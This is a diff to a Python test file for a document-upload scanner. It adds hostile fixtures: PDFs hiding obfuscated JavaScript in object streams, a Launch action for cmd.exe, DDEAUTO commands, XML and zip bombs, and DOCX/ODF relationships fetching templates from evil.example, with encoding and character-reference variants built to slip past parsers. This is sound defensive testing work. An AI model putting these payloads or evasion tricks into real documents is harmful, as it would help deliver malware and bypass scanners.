@@ -7,7 +7,7 @@ from __future__ import annotations
 
 import zlib
 
-from register.documents.packed import ODT
+from register.documents.packed import ODS, ODT
 from tests.documents.files import archive, docx, jpeg, open_document, pdf, png, xlsx
 
 SCRIPT = b"<script>alert(1)</script>"
@@ -20,7 +20,29 @@ ENTITIES = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "lol"><!ENTITY c "&b;&
 RELATION = (
     b'<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
 )
+OTHER_ORDER = b"<Relationship TargetMode = 'External' Target='https://evil.example' Type='http://x/attachedTemplate'/>"
+REFERENCES = RELATION.replace(b"attached", b"attach&#101;d").replace(b"External", b"&#x45;xternal")
+BEHIND = RELATION.replace(b" Type", b" Id='> Type=\"/hyperlink\"' Type")
+IN_UTF_16 = BEHIND.decode().replace("t.dotm", "\u3c3e\u223c").encode("utf-16")
+IN_UTF_7 = b'<?xml version="1.0" encoding="utf-7"?>' + RELATION.replace(b"<", b"+ADw-")
+LISTENER = b'<s:event-listener xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0"/>'
+SECTION = b'<text:section-source xlink:href="http://evil.example/a.odt"/>'
+PICTURE = b"<draw:image a:href=' &#104;ttps://evil.example/a.png'/>"
+SHARE = b'<draw:floating-frame xlink:href="file://evil.example/share/a.odt"/>'
 PACKED = b"<</Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]/Length 4>>\nstream\nabcd\nendstream"
+HIDDEN = b"9 0 <</S/JavaScript/Next 8 0 R>>"
+SPELLED = b"9 0 <</S/Java#53cript/Next 8 0 R>>"
+
+
+def packed(
+    text: bytes,
+    said: bytes = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode",
+    *,
+    begins: bytes = b"stream\n",
+    body: bytes = b"",
+) -> bytes:
+    """Return a PDF with a stream of objects, as it is said to be packed."""
+    return pdf(b"<<" + said + b">>\n" + begins + (body or zlib.compress(text)) + b"\nendstream")
 
 
 def renamed(data: bytes) -> bytes:
@@ -60,6 +82,44 @@ HOSTILE: list[tuple[str, str, bytes, str | None]] = [
         "holds a program",
     ),
     ("a PDF that runs a packed script", "report.pdf", pdf(compressed=b"9 0 " + JS), "holds a program"),
+    (
+        "a script whose checksum is wrong",
+        "a.pdf",
+        packed(b"", body=zlib.compress(HIDDEN)[:-1] + b"!"),
+        "be looked into",
+    ),
+    ("a script that is cut", "a.pdf", packed(b"", body=zlib.compress(HIDDEN)[:-6]), "be looked into"),
+    ("a script behind a lone CR", "a.pdf", packed(HIDDEN, begins=b"stream\r"), "be looked into"),
+    ("a script behind a blank", "a.pdf", packed(HIDDEN, begins=b"stream \n"), "be looked into"),
+    ("a script behind a comment", "a.pdf", packed(HIDDEN, begins=b"%\nstream \n"), "be looked into"),
+    ("a stream without an end", "a.pdf", packed(HIDDEN).replace(b"endstream", b""), "be looked into"),
+    ("a stream within a stream", "a.pdf", pdf(b"<<>>\nstream\n<<>>\nstream\n\nendstream"), "be looked into"),
+    ("20,000 streams", "a.pdf", b"%PDF-1.7\n" + b"stream\n" * 20_000 + b"%%EOF\n", "be looked into"),
+    (
+        "a script behind a note",
+        "a.pdf",
+        packed(SPELLED, b"/Type/ObjStm/N 1/First 4/Note ( 1 0 obj)/Filter/FlateDecode"),
+        "holds a program",
+    ),
+    (
+        "a script behind a long dictionary",
+        "a.pdf",
+        packed(SPELLED, b"/Type/ObjStm/Filter/FlateDecode/Note (" + b"-" * 9000 + b")"),
+        "holds a program",
+    ),
+    ("a script in a stream that is not said to hold objects", "a.pdf", packed(SPELLED, b"/N 1"), "holds a program"),
+    (
+        "a script packed in an unusual way, that is not said to hold objects",
+        "a.pdf",
+        packed(b"", b"/N 1/First 4/Filter/ASCIIHexDecode", body=HIDDEN.hex().encode() + b">"),
+        "be looked into",
+    ),
+    (
+        "a script packed twice, beside another that is not",
+        "a.pdf",
+        packed(zlib.compress(HIDDEN), b"/Type/ObjStm/Filter[/FlateDecode/FlateDecode]/A<</Filter/FlateDecode>>"),
+        "be looked into",
+    ),
     ("a PDF packed in an unusual way", "report.pdf", pdf(PACKED), "cannot be looked into"),
     ("a PDF that starts a program", "report.pdf", pdf(b"<</OpenAction<</S/Launch/F(cmd.exe)>>>>"), "holds a program"),
     ("a PDF with a file in it", "report.pdf", pdf(b"<</Type/EmbeddedFile>>\nstream\nMZ\nendstream"), "holds a program"),
@@ -102,6 +162,23 @@ HOSTILE: list[tuple[str, str, bytes, str | None]] = [
     ("an XML entity bomb", "reasons.docx", docx(body=ENTITIES), "damaged"),
     ("an entity bomb in UTF-16", "reasons.docx", docx(body=ENTITIES.decode().encode("utf-16")), "damaged"),
     ("a template that is fetched", "reasons.docx", docx({"word/_rels/s.xml.rels": RELATION}), "fetches something"),
+    ("a template, said in another order", "a.docx", docx({"word/_rels/s.xml.rels": OTHER_ORDER}), "fetches something"),
+    ("a template, spelled otherwise", "a.docx", docx({"word/_rels/s.xml.rels": REFERENCES}), "fetches something"),
+    ("a template behind a “>”", "a.docx", docx({"word/_rels/s.xml.rels": BEHIND}), "fetches something"),
+    ("a template in UTF-16", "a.docx", docx({"word/_rels/s.xml.rels": IN_UTF_16}), "fetches something"),
+    ("a template in UTF-16 without a mark", "a.docx", docx({"word/_rels/s.xml.rels": IN_UTF_16[2:]}), "damaged"),
+    ("a template in another encoding", "a.docx", docx({"word/_rels/s.xml.rels": IN_UTF_7}), "damaged"),
+    ("a listener under another prefix", "a.odt", open_document(more={"styles.xml": LISTENER}), "macros"),
+    ("a section that is fetched", "a.odt", open_document(more={"styles.xml": SECTION}), "fetches something"),
+    ("a picture that is fetched", "a.ods", open_document(ODS, {"styles.xml": PICTURE}), "fetches something"),
+    ("a frame from another computer", "a.odt", open_document(more={"styles.xml": SHARE}), "fetches something"),
+    ("a list that is fetched by DDE", "a.ods", open_document(ODS, {"styles.xml": b"<b:dde-link/>"}), "macros"),
+    (
+        "a million links",
+        "a.odt",
+        open_document(more={"styles.xml": b"<a href=''/>" * 1_000_000}),
+        "unpacks to far more",
+    ),
     ("a command in a field", "reasons.docx", docx(body=b"<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>"), "macros"),
     (
         "a program in a document",
